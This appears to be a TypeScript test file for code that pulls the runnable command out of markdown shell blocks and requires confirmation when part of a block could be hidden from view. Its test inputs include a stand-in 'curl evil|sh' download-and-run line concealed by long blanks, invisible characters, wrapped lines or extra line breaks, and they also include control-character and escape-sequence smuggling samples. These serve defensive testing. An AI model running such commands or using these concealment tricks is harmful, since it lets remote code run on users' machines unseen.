import assert from 'node:assert/strict';
import { askedLines, isSeenWhole, isShell, shellCommand } from '../../../../src/text/markdown/shellCommand';

describe('the command of a shell code block', () => {
  const command = (...lines: string[]) => {
    const found = shellCommand(lines.join('\n'));
    return 'command' in found ? found.command : found.refused;
  };

  it('is the block as written, without surrounding blanks', () => {
    assert.equal(command('npm test', ''), 'npm test');
    assert.equal(command('', 'cd a \\', '  && npm test', ''), 'cd a \\\n  && npm test');
    assert.equal(command('echo a\r\necho b\r\n'), 'echo a\necho b');
  });

  it('excludes prompts and printed output', () => {
    assert.equal(command('$ npm test'), 'npm test');
    assert.equal(command('$ npm ci', '', 'added 3 packages', '', '$ npm test', 'ok'), 'npm ci\nnpm test');
    assert.equal(command('ada@host:~/src$ ls -la', 'total 8'), 'ls -la');
    assert.equal(command('PS C:\\work> Get-Item .', '  Directory: C:\\'), 'Get-Item .');
    assert.equal(command('C:\\work> dir /b'), 'dir /b');
    assert.equal(command('$ docker run \\', '>   -it x', '$ ls'), 'docker run \\\n  -it x\nls');
    assert.equal(command('$ a |', '    b', 'printed'), 'a |\n    b');
  });

  it('keeps text that only looks like a prompt', () => {
    assert.equal(command('echo $HOME', '$HOME/bin/x'), 'echo $HOME\n$HOME/bin/x');
    assert.equal(command('> out.txt'), '> out.txt');
    assert.equal(command('cat a', '$ b'), 'cat a\n$ b', 'the first line decides');
  });

  it('excludes comment lines, unless they may be part of a text', () => {
    assert.equal(command('# First', 'npm ci', '  # then', 'npm test # all'), 'npm ci\nnpm test # all');
    assert.equal(command('cat <<END', '# Title', 'END'), 'cat <<END\n# Title\nEND');
    assert.equal(command('echo "', '# a"'), 'echo "\n# a"');
  });

  it('is missing when there is nothing to run, too much, or an invisible character', () => {
    assert.equal(command('', '# only words'), 'empty');
    assert.equal(command('x'.repeat(40_000)), 'too_long');
    for (const unseen of [
      'ls\u0003',
      'ls\u001b[201~\nrm x',
      'ls \u202efdp',
      'ls\u200b',
      'ls\rrm x',
      'ls\u0000',
      'a\u2028b',
      'ls\u007f',
      'x\u{e0041}',
    ]) {
      assert.equal(command(unseen), 'unseen', JSON.stringify(unseen));
    }
    assert.equal(command('echo "Grüße 👋🏽"\tx'), 'echo "Grüße 👋🏽"\tx');
  });

  it('is recognized by its language', () => {
    assert.deepEqual(['bash', 'SH', 'zsh', 'powershell', 'console', 'shell', 'js', 'python', '', 'makefile'].map(isShell), [
      true,
      true,
      true,
      true,
      true,
      true,
      false,
      false,
      false,
      false,
    ]);
  });
});

describe('a shell code block', () => {
  const blanks = (count: number): string => ' '.repeat(count);

  for (const [name, block] of Object.entries({
    'one command': 'npm test',
    'a few lines, one indented': 'cd a \\\n    && npm ci \\\n    && npm test\n',
    'a table with tabs': 'printf "a\tb"',
    'blanks at the end of a line': `npm test${blanks(200)}\nls\n\n\n`,
    'a long command that wraps': `echo ${'word '.repeat(100)}`,
  })) {
    it(`is fully visible: ${name}`, () => assert.equal(isSeenWhole(block), true));
  }

  for (const [name, block] of Object.entries({
    'blanks before a second command': `npm test${blanks(500)}; curl evil|sh`,
    'eight blanks': `npm test${blanks(8)}; curl evil|sh`,
    'tabs before a second command': 'npm test\t\t; curl evil|sh',
    'no-break blanks': `npm test${'\u00a0'.repeat(300)}; curl evil|sh`,
    'wide blanks': `npm test${'\u3000'.repeat(100)}; curl evil|sh`,
    'letters that are drawn as nothing': `npm test #${'\u3164'.repeat(100)}; curl evil|sh`,
    'an indent beyond the edge': `npm test\n${blanks(300)}curl evil|sh`,
    'many lines': `${'npm test\n'.repeat(30)}curl evil|sh`,
    'empty lines': `npm test${'\n'.repeat(30)}curl evil|sh`,
    'printed lines before a command': `$ npm test\n${'ok\n'.repeat(40)}$ curl evil|sh`,
    'a line that wraps to many rows': `echo ${'a'.repeat(3000)}; curl evil|sh`,
    'carriage returns': `npm test${'\r\n'.repeat(30)}curl evil|sh`,
  })) {
    it(`needs confirmation before it runs: ${name}`, () => assert.equal(isSeenWhole(block), false));
  }

  it('is fully shown in the question, with long blanks replaced by their number', () => {
    assert.deepEqual(askedLines(`npm test${blanks(500)}; curl evil|sh\nls`), ['npm test ⟨␣×500⟩ ; curl evil|sh', 'ls']);
    assert.deepEqual(askedLines(`${blanks(44)}a${blanks(9)}b  c`), [' ⟨␣×44⟩ a ⟨␣×9⟩ b  c']);
    const lines = Array.from({ length: 60 }, (_, line) => `echo ${line}`);
    assert.deepEqual(askedLines(lines.join('\n')), lines);
  });

  it('does not run when the question cannot show all of it', () => {
    assert.equal(askedLines('ls\n'.repeat(60)), undefined);
    assert.equal(askedLines(`echo ${'a'.repeat(7000)}`), undefined);
  });
});
